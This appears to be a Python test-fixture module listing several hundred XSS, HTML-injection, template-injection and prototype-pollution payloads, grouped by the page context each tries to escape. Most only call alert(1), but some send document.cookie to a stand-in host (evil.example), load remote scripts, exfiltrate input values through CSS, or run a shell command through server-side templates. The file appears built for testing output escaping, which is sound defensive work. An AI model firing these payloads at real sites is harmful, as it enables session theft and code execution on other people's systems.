"""Texts that try to be more than texts: several hundred, by the place on a page that each tries to get out of.

What would run calls `alert` or sets `window.hacked`; what would be fetched is at EVIL, which no page may ask; and what
runs and fetches nothing swallows the rest of the page, breaks a string that is put together, or comes out as another
text than it went in. So whoever looks at the page in a browser notices each of them.
"""

from collections.abc import Callable, Iterable

EVIL = "//evil.example"
RUNS = "alert(1)"
# What runs as soon as it is an element.
IMAGE = f"<img src=x onerror={RUNS}>"
DRAWING = f"<svg onload={RUNS}>"
SCRIPT = f"<script>{RUNS}</script>"
HACKED = "<script>hacked=1</script>"
FOREIGN = f"<script src={EVIL}/x.js></script>"


def in_turn(forms: Iterable[str], insides: Iterable[str]) -> list[str]:
    """Put each inside into each form, in the place of `@`."""
    return [form.replace("@", inside) for form in forms for inside in insides]


# --- Text of an element ------------------------------------------------------------------------------

SCRIPTS = [
    SCRIPT,
    HACKED,
    FOREIGN,
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script/x>alert(1)</script/x>",
    "<script\n>alert(1)</script\n>",
    "<script\t>alert(1)</script\t>",
    "<script\x0c>alert(1)</script\x0c>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script>alert(1)",
    "<script>alert`1`</script>",
    "<script>window['al'+'ert'](1)</script>",
    "<script>hacked=[]['\\x61t']</script>",
    "<script>top[8680439..toString(30)](1)</script>",
    "<script>eval(atob('YWxlcnQoMSk='))</script>",
    "<script type=module>alert(1)</script>",
    f'<script type=module>import "{EVIL}/x.js"</script>',
    f'<script type=importmap>{{"imports":{{"x":"{EVIL}/x.js"}}}}</script>',
    "<script defer src=data:,alert(1)></script>",
    f"<script src=https:{EVIL}/x.js async></script>",
    f"<script>fetch('{EVIL}/?'+document.cookie)</script>",
    f"<script>new Image().src='{EVIL}/?'+document.cookie</script>",
    f"<script>navigator.sendBeacon('{EVIL}/')</script>",
    "<script language=vbscript>MsgBox(1):alert(1)</script>",
]
# What an element with a handler is, and what sets the handler off.
LOADS = ["body", "svg", "iframe", "frameset", "style", "input type=image src=x", "object data=/"]
FAILS = ["img src=x", "img/src=x", "image src", "video src=x", "audio src=x", "video><source", "script src=/x"]
FAILS += ["link href=/x rel=stylesheet", "embed src=x", "object data=x", "svg><image href=x"]
FOCUSED = ["input", "select", "textarea", "button", "a href=x", "b tabindex=1", "b contenteditable", "svg tabindex=1"]
# Each with a way of its own.
BY_THEMSELVES = [
    "details open ontoggle",
    "marquee onstart",
    "marquee loop=1 width=0 onfinish",
    "body onpageshow",
    "body onresize",
    "body onhashchange",
    "video autoplay src=/static/mark.svg onloadstart",
    "svg><animate attributeName=x dur=1s onbegin",
    "svg><set attributeName=x dur=1s onbegin",
    "svg><animatemotion dur=1s onbegin",
    "svg><discard onbegin",
    "b style=animation:x onanimationstart",
    "b style=transition:1s ontransitionend",
    "b onmouseover",
    "b onpointerenter",
    "b onpointerrawupdate",
    "b onwheel",
    "b onscrollsnapchange",
    "form onformdata",
    "input onbeforeinput",
    "dialog open onclose",
    "b popover onbeforetoggle",
    "x onclick",
    "bgsound src=x onpropertychange",
    "b hidden=until-found onbeforematch",
]
HANDLERS = [
    *(f"<{each} onload={RUNS}>" for each in LOADS),
    *(f"<{each} onerror={RUNS}>" for each in FAILS),
    *(f"<{each} autofocus onfocus={RUNS}>" for each in FOCUSED),
    *(f"<{each}={RUNS}>" for each in BY_THEMSELVES),
    f"<b oncontentvisibilityautostatechange={RUNS} style=content-visibility:auto>",
    f"<b onfocusin={RUNS} tabindex=0 autofocus>",
    f"<img src=x onerror={RUNS}//",
    f"<img src=x:x onerror=\n{RUNS}\n>",
    f"<img/src/onerror={RUNS}>",
    f"<img src onerror  =  '{RUNS}'>",
    f"<IMG SRC=x ONERROR={RUNS}>",
    f'<img """><script>{RUNS}</script>">',
    "<img src=x onerror=hacked=1>",
    "<img src=x onerror=window.onerror=alert;throw+1>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img src=x onerror=\\u0061lert(1)>",
    "<svg/onload=alert&lpar;1&rpar;>",
    "<svg\x0conload=alert(1)>",
    "<svg\ronload\r=\ralert(1)>",
]
FRAMES = [
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "<iframe srcdoc=&lt;script&gt;parent.alert(1)&lt;/script&gt;></iframe>",
    f"<iframe src={EVIL}/></iframe>",
    "<iframe src=/events></iframe>",
    "<iframe name=hacked></iframe>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    f"<object data={EVIL}/x.swf></object>",
    "<object type=text/html data=data:text/html,%3Cscript%3Ealert(1)%3C/script%3E></object>",
    "<embed src=javascript:alert(1)>",
    f"<embed src={EVIL}/x.swf allowscriptaccess=always>",
    f"<applet code=x codebase={EVIL}/></applet>",
    f"<portal src={EVIL}/></portal>",
    f"<fencedframe src={EVIL}/></fencedframe>",
    "<img src=x srcset='x onerror=alert(1)'>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
]

# --- What the policy of the page must hold, where an element came through ----------------------------

PAST_POLICY = [
    f"<base href={EVIL}/>",
    f"<base target=hacked><a href={EVIL}/>x</a>",
    f'<meta http-equiv=refresh content="0;url={EVIL}/">',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "<meta http-equiv=set-cookie content=hacked=1>",
    "<meta name=referrer content=unsafe-url>",
    *in_turn(
        [f"<link rel=@ href={EVIL}/x>"],
        ["preload as=script", "prefetch", "prerender", "modulepreload", "dns-prefetch", "preconnect", "manifest"],
    ),
    *in_turn([f"<link rel=@ href={EVIL}/x>"], ["icon", "stylesheet", "import", "alternate", "search"]),
    f"<form action={EVIL}/><input name=x type=submit>",
    f"<form><button formaction={EVIL}/>x</button></form>",
    "<form action=javascript:alert(1)><input type=submit autofocus></form>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=x onerror=alert(1)>",
    f"<a href={EVIL}/ ping={EVIL}/>x</a>",
    "<script nonce=x>alert(1)</script>",
    "<script src=/events?format=json></script>",
    "<script src=/api/schema></script>",
    "<script src=/static/js/nothing.js></script>",
    '<script>{"x":1}</script>',
]

# --- Value of an attribute ---------------------------------------------------------------------------

OUT_OF_QUOTES = in_turn(
    ['">@', "'>@", '"/>@', "`>@", " >@", '\\">@', "\\'>@", "'\">@", '"><b>@', '" x="">@', "&quot;>@", '">\n@<"'],
    [IMAGE, DRAWING, SCRIPT],
)
INTO_THE_TAG = in_turn(
    ['" @ x="', "' @ x='", " @ x=", "\" @ '", '"/@/x="', '"\n@\n"', "x`@`"],
    [
        f"onmouseover={RUNS}",
        f"autofocus onfocus={RUNS}",
        f"style=background:url({EVIL}/)",
        f"hx-get={EVIL}/ hx-trigger=load",
    ],
)
IN_A_TITLE = in_turn(['title="@"', "<b title='@'>x</b>", "&lt;b title=@&gt;"], [IMAGE, "</title>" + DRAWING])

# --- An address --------------------------------------------------------------------------------------

ADDRESSES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript\n:alert(1)",
    "javascript://%0aalert(1)",
    "javascript://evil.example/%0d%0aalert(1)",
    "javascript:%61lert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "jav&Tab;ascript:alert(1)",
    "javascript:void(hacked=1)",
    "javascript:'<script>alert(1)</script>'",
    "vbscript:alert(1)",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/javascript,alert(1)",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:,alert(1)",
    f"{EVIL}/x",
    f"https:{EVIL}/x",
    "https:evil.example/x",
    "/\\evil.example/x",
    "\\\\evil.example\\x",
    "///evil.example/x",
    "/%09/evil.example/x",
    "/%2fevil.example/x",
    "http://127.0.0.1.evil.example/x",
    "?next=//evil.example",
    "#<img src=x onerror=alert(1)>",
    "../../../etc/passwd?hacked=1",
    *in_turn(["<a href=@>x</a>", '<a href="@">x</a>'], ["javascript:alert(1)", " &#1; javascript:alert(1)"]),
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "<javascript:alert(1)>",
]

# --- A text or a block of a script -------------------------------------------------------------------

STRINGS = [
    *in_turn(
        ['"@"', "'@'", "`@`", '\\"@//', "\\'@//", '\\\\"@//', "*/@/*", '")@//', "')@//", '"}@//', "]}@//"],
        [f";{RUNS};"],
    ),
    '"-alert(1)-"',
    "'-alert(1)-'",
    "'+alert(1)+'",
    '"+hacked=1+"',
    "${alert(1)}",
    "`${alert(1)}`",
    "\\u0022;alert(1)//",
    "\\u0027;alert(1)//",
    "\\x22;alert(1)//",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\74script\\76alert(1)\\74/script\\76",
    "</script><script>alert(1)</script>",
    "</script ><svg onload=alert(1)>",
    "</SCRIPT\t><img src=x onerror=alert(1)>",
    "<!--<script>alert(1)",
    "<!--<script></script>--><script>alert(1)</script>",
    "<!--\nalert(1)//-->",
    "-->\nalert(1)",
    "]]></script><script>alert(1)</script>",
    '"}</script><svg onload=alert(1)>',
    '{"x":"</script><script>alert(1)</script>"}',
    "\u2028alert(1)//",
    "\u2029alert(1)//",
    "//\u2028alert(1)",
    "\\\u2028alert(1)",
    "');alert(1);('",
    "1;alert(1)",
    "function(){alert(1)}()",
    "import('//evil.example/x.js')",
    "setTimeout('alert(1)')",
    "[].constructor.constructor('alert(1)')()",
    '\\");alert(1)//',
    "%22);alert(1)//",
]
POLLUTING = [
    '{"__proto__":{"hacked":1}}',
    '{"constructor":{"prototype":{"hacked":1}}}',
    '"},"__proto__":{"hacked":1},"x":{"',
    "__proto__[hacked]=1",
    "__proto__.hacked=1",
    "constructor[prototype][hacked]=1",
    "constructor.prototype.hacked=1",
    "?__proto__[hacked]=1",
    "toString",
    "hasOwnProperty",
    "constructor",
    "__proto__",
    "__defineGetter__",
]

# --- Where only one end tag counts, and comments -----------------------------------------------------

RAW = ["title", "textarea", "style", "script", "noscript", "noembed", "noframes", "xmp", "iframe", "select", "option"]
RAW += ["template", "table", "svg", "math", "button", "details", "dialog", "main", "body", "html"]
OUT_OF_RAW = in_turn((f"</{each}>@" for each in RAW), [IMAGE, HACKED])
OUT_OF_COMMENTS = in_turn(
    ["-->@", "--!>@", "<!-->@-->", "<!--->@-->", "<!--@", "<![CDATA[><@]]>", "]]>@", "<?x ?>@", "<!x>@", "</x @"],
    [IMAGE, SCRIPT],
)
SWALLOWING = [
    *(f"<{each}>" for each in ("textarea", "plaintext", "title", "script", "style", "xmp", "noframes", "iframe")),
    *("<select><option>", "<table><tr><td>", "<template>", "<noscript>", "<svg>", "<math>", "<dialog>", "<details>"),
    *("<!--", "<![CDATA[", "<?", "<!", "</", "<a", "<", "&", "&#", "&#x", "&lt", "--", "-->", "]]>", "*/", "/*", "//"),
]

# --- Style -------------------------------------------------------------------------------------------

STYLES = [
    f"<style>*{{background:url({EVIL}/x)}}</style>",
    f"<style>@import'{EVIL}/x.css';</style>",
    f"<style>@font-face{{font-family:x;src:url({EVIL}/x)}}*{{font-family:x}}</style>",
    f"<style>input[value^=a]{{background:url({EVIL}/a)}}</style>",
    "<style>*{display:none!important}</style>",
    "<style onload=alert(1)></style>",
    "<style><img src=x onerror=alert(1)></style>",
    f"<b style=background:url({EVIL}/x)>x</b>",
    f"<b style='list-style-image:url({EVIL}/x)'>x</b>",
    "<b style=position:fixed;inset:0;z-index:9>x</b>",
    "<b style='x:expression(alert(1))'>x</b>",
    "<b style='x:\\65xpression(alert(1))'>x</b>",
    f"<b style=-moz-binding:url({EVIL}/x.xml)>x</b>",
    "<b style=behavior:url(x.htc)>x</b>",
    f";background:url({EVIL}/x)",
    f'"style="background:url({EVIL}/x)"',
    f"}}*{{background:url({EVIL}/x)}}",
    f"</style><style>*{{background:url({EVIL}/x)}}",
    f"x;}}@import url({EVIL}/x.css);",
    "expression(alert(1))",
    "url(javascript:alert(1))",
    f"<link rel=stylesheet href={EVIL}/x.css onload=alert(1)>",
]

# --- SVG and MathML ----------------------------------------------------------------------------------

DRAWN = [
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    f"<svg><script href={EVIL}/x.js></script></svg>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=9>x</text></a></svg>",
    f"<svg><use href={EVIL}/x.svg#x /></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=alert(1)>#x'>",
    f"<svg><image href={EVIL}/x.svg /></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    f"<svg><style>@import '{EVIL}/x.css';</style></svg>",
    "<svg><handler type=text/javascript>alert(1)</handler></svg>",
    f"<svg><filter><feImage href={EVIL}/x.svg /></filter></svg>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mi xlink:href=data:x,<script>alert(1)</script>>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
]

# --- What a second reading makes of it ---------------------------------------------------------------

TWICE = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
    '<title><a title="</title><img src=x onerror=alert(1)>">',
    '<textarea><a title="</textarea><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<style><a title="</style><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<svg><title><a title="</title><img src=x onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<table><a><svg></table></svg><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<p><svg><p><img src=x onerror=alert(1)></svg>",
    "<b><p></b><img src=x onerror=alert(1)></p>",
    "<template><p></template><img src=x onerror=alert(1)>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<x/><img src=x onerror=alert(1)></x/>",
    "<p title='&quot;><img src=x onerror=alert(1)>'>",
]

# --- Markup that is left open, to carry off what follows it ------------------------------------------

DANGLING = in_turn(
    [
        "<img src=@",
        "<a href=@",
        "<link rel=stylesheet href=@",
        "<meta http-equiv=refresh content=@",
        "<iframe src=@",
        "<video poster=@",
        "<table background=@",
        "<input type=image src=@",
        "<form action=@",
        "<button formaction=@",
        "<base target=@",
        "<object data=@",
    ],
    [f"'{EVIL}/?", f'"{EVIL}/?'],
)

# --- Elements that take the place of what a script looks for -----------------------------------------

IN_PLACE_OF = [
    "<a id=hacked>",
    "<img name=hacked>",
    "<form id=hacked><input name=x></form>",
    "<a id=hacked><a id=hacked name=x href=javascript:alert(1)>",
    "<form id=x><output id=hacked>x</output></form>",
    "<object name=hacked></object>",
    "<embed name=hacked>",
    *in_turn(["<img name=@>", "<a id=@>", "<form name=@>"], ["getElementById", "Chart", "htmx", "figures", "desk"]),
    '<a id=states-now>{"x":1}</a>',
    '<b id=rate-chart>{"series":[{"label":"<img src=x onerror=alert(1)>"}]}</b>',
    "<b data-chart=nowhere><canvas></canvas></b>",
    "<b data-key=g data-key-word=hacked>x</b>",
    "<button data-copy=nowhere>x</button>",
    "<form data-export><input name=id></form>",
    "<details class=menu open>x</details>",
    "<b data-live=off data-pause data-reload>x</b>",
    "<meta name=htmx-config content='{\"allowEval\":true}'>",
]

# --- Template engines, of servers and of pages -------------------------------------------------------

TEMPLATES = [
    *("{{7*7}}", "{{ 7*7 }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{=7*7}}", "[[${7*7}]]", "*{7*7}", "~{x}", "{7*7}"),
    *("{% debug %}", "{%debug%}", "{# x #}", "{% csrf_token %}", "{{ request }}", "{{ settings.SECRET_KEY }}"),
    *('{% include "base.html" %}', "{% load static %}", "{% now 'Y' %}", "{% endblock %}", "{% verbatim %}", "{{"),
    *("{}", "{0}", "{x}", "{0.__class__}", "{x!r}", "{:>9999}", "%s", "%n", "%(x)s", "%d%%", "{{}}", "}}", "{%"),
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{[].pop.constructor('alert(1)')()}}",
    "{{$on.constructor('alert(1)')()}}",
    "<b ng-app>{{$eval.constructor('alert(1)')()}}</b>",
    "<b ng-app ng-csp><b ng-init=$event.view.alert(1)></b>",
    "<b v-html=\"''.constructor.constructor('alert(1)')()\">x</b>",
    "<%- global.process.mainModule.require('child_process') %>",
    "#set($x=1)${x}alert(1)",
    "%7b%7b7*7%7d%7d",
]
FRAMEWORKS = [
    f"<b hx-get={EVIL}/ hx-trigger=load>x</b>",
    f"<b data-hx-get={EVIL}/ data-hx-trigger=load>x</b>",
    "<b hx-post=/logout hx-trigger=load>x</b>",
    "<b hx-get=/ hx-trigger=load hx-vals='js:{x:alert(1)}'>x</b>",
    "<b hx-get=/ hx-trigger=load hx-vars=x:alert(1)>x</b>",
    "<b hx-get=/ hx-trigger=load hx-headers='js:{\"x\":alert(1)}'>x</b>",
    "<b hx-get=/ hx-trigger='load[alert(1)]'>x</b>",
    "<b hx-on=load:alert(1)>x</b>",
    "<b hx-on:htmx:load=alert(1)>x</b>",
    "<b hx-on::load=alert(1)>x</b>",
    "<b hx-swap-oob=true id=figures>x</b>",
    "<b hx-boost=true hx-ext=ignore:morph>x</b>",
    f"<b hx-push-url={EVIL}/ hx-get=/ hx-trigger=load>x</b>",
    '<b _="on load call alert(1)">x</b>',
    '<b data-script="init call alert(1)">x</b>',
    "<b x-data x-init=alert(1)>x</b>",
    "<b x-data x-html=\"'<img src=x onerror=alert(1)>'\">x</b>",
    "<b x-data :x=alert(1) x-on:load=alert(1)>x</b>",
    "<b v-on:click=alert(1)>x</b>",
    "<b ng-focus=$event.view.alert(1) tabindex=1 id=x>x</b>",
    '<b data-bind="html:alert(1)">x</b>',
    '<b data-controller=x data-action="load->x#alert(1)">x</b>',
    '<b data-bs-toggle=tooltip data-bs-html=true title="<img src=x onerror=alert(1)>">x</b>',
    '<b data-bs-toggle=popover data-bs-template="<script>alert(1)</script>">x</b>',
    "<b data-toggle=tooltip data-html=true title='<script>alert(1)</script>'>x</b>",
    f"<turbo-frame src={EVIL}/></turbo-frame>",
    "<b is=x-x>x</b><script>customElements.define('x-x',alert(1))</script>",
]

# --- Other spellings ---------------------------------------------------------------------------------

SPELLED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&LT;svg onload=alert(1)&GT;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&#0000060;img src=x onerror=alert(1)&#0000062;",
    "&#60img src=x onerror=alert(1)&#62",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&quot;onmouseover=alert(1) x=&quot;",
    "&#39;onmouseover=alert(1) x=&#39;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%3Cimg%20src=x%20onerror=alert(1)%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "%22onmouseover=alert(1)%20x=%22",
    "%00%3Cscript%3Ealert(1)%3C/script%3E",
    "%0d%0aSet-Cookie:hacked=1",
    "%0d%0a%0d%0a<script>alert(1)</script>",
    "\r\nSet-Cookie: hacked=1",
    "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE",
    "%E0%80%BCimg src=x onerror=alert(1)%E0%80%BE",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    "\\u{3c}img src=x onerror=alert(1)\\u{3e}",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufe64img src=x onerror=alert(1)\ufe65",
    "\u2039img src=x onerror=alert(1)\u203a",
    "\u3008script\u3009alert(1)\u3008/script\u3009",
    "\uff02onmouseover=alert(1) x=\uff02",
    "\u02baonmouseover=alert(1) x=\u02ba",
    "\u2019onmouseover=alert(1) x=\u2019",
    # In capitals, or in small letters, these are the names of elements.
    "<\u017fcript>alert(1)</\u017fcript>",
    "<\u0131mg src=x onerror=alert(1)>",
    "<lin\u212a rel=stylesheet href=//evil.example/x>",
    "<\ufb06yle onload=alert(1)>",
]

# --- What nobody sees, and what turns writing round --------------------------------------------------

UNSEEN = [
    *in_turn(
        ["@<img src=x onerror=alert(1)>", "<scr@ipt>alert(1)</scr@ipt>"], ["\u200b", "\ufeff", "\u00ad", "\u2060"]
    ),
    *in_turn(
        ["@<img src=x onerror=alert(1)>@", "gpt@>1=rorreno x=crs gmi<"],
        ["\u202e", "\u202d", "\u2066", "\u2067", "\u2068", "\u2069", "\u200f", "\u061c"],
    ),
    *in_turn(["<svg@onload=alert(1)>"], ["\u00a0", "\u2003", "\u3000", "\u0085", "\u180e"]),
    *in_turn(["@<svg onload=alert(1)>"], ["\x01", "\x08", "\x1b[31m", "\x7f", "\ufffe", "\U000e0001", "\ufffd"]),
    "<b>" + "x\u0300\u0301\u0302\u0303" * 9 + "<script>alert(1)</script>",
    "\U0001f469\u200d\U0001f4bb<script>alert(1)</script>",
    "\U00012031\ufdfd<img src=x onerror=alert(1)>",
]

# --- Alone -------------------------------------------------------------------------------------------

ALONE = list("'\"`\\;=")
ALONE += ["''", '""', "'\"", "\\'", '\\"', "\\\\", "'--", "';", '";', "\\`", "<>", "'<", '"<']
ALONE += ["null", "undefined", "NaN", "true", "[]", "[object Object]", "../", "=1+1", "<b>", "<br/>", "<p>", "<hr>"]

# --- For many places at once -------------------------------------------------------------------------

POLYGLOTS = [
    *in_turn(
        ['"></title></textarea>@', "'\"--></title></textarea></style></script>@", '</textarea></title>">@'],
        [IMAGE, DRAWING, SCRIPT, HACKED],
    ),
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    '\'">><marquee><img src=x onerror=alert(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=alert(1)>',
    "\"onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//",
    "';alert(String.fromCharCode(49))//';alert(1)//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
    "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><svg/onload=alert()>",
    '-->\'"/></sCript><svg x=">" onload=(co\\u006efirm)``,alert(1)>',
    "'\"()&%<zzz><ScRiPt >alert(1)</ScRiPt>",
    "{{7*7}}${7*7}<%= 7*7 %><img src=x onerror=alert(1)>",
    "\">'>*/--></title></style></textarea></script><script>hacked=1</script>",
    "</script></style></title></textarea></noscript></template></select></svg></math>" + IMAGE,
]
# Where a column or a card is narrow: what breaks nowhere, and what breaks everywhere.
LONG = [
    IMAGE + "x" * 60,
    IMAGE + "x" * 160,
    SCRIPT + "\u202f" * 90,
    "<b>" * 40,
    "</div>" * 20 + IMAGE,
    '">' * 50 + IMAGE,
    "<div>" * 400 + IMAGE,
    f"{SCRIPT}\n" * 60,
]

PLACES: dict[str, list[str]] = {
    "script": SCRIPTS,
    "handler": HANDLERS,
    "frame": FRAMES,
    "past the policy of the page": PAST_POLICY,
    "out of quotation marks": OUT_OF_QUOTES,
    "into the tag": INTO_THE_TAG,
    "title": IN_A_TITLE,
    "address": ADDRESSES,
    "text of a script": STRINGS,
    "prototype": POLLUTING,
    "raw text": OUT_OF_RAW,
    "comment": OUT_OF_COMMENTS,
    "swallowing": SWALLOWING,
    "style": STYLES,
    "drawing": DRAWN,
    "read twice": TWICE,
    "dangling": DANGLING,
    "in the place of something": IN_PLACE_OF,
    "template": TEMPLATES,
    "framework": FRAMEWORKS,
    "spelling": SPELLED,
    "unseen": UNSEEN,
    "alone": ALONE,
    "polyglot": POLYGLOTS,
    "long": LONG,
}
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(each for found in PLACES.values() for each in found))
# What is no letter of any alphabet does for a sign of markup as well, and no two of them are the same.
_HARMLESS = str.maketrans("<>\"'`&", "()~.^+")


def fitting(most: int, fits: Callable[[str], bool] = lambda _: True) -> list[str]:
    """Return the payloads of at most so many characters. None is cut: what is left of one might harm nobody."""
    return [each for each in PAYLOADS if len(each) <= most and fits(each)]


def breaks_out(text: str) -> bool:
    """Tell whether it is more than a text in an element, in an attribute, in a title and in a field alike.

    For what stands in one place alone: of others only some would be anything there.
    """
    return '"' in text and all(end in text.lower() for end in ("</title", "</textarea"))


def harmless(text: str) -> str:
    """Return a text of the same length and the same blanks, of which nothing can be markup."""
    return text.translate(_HARMLESS)
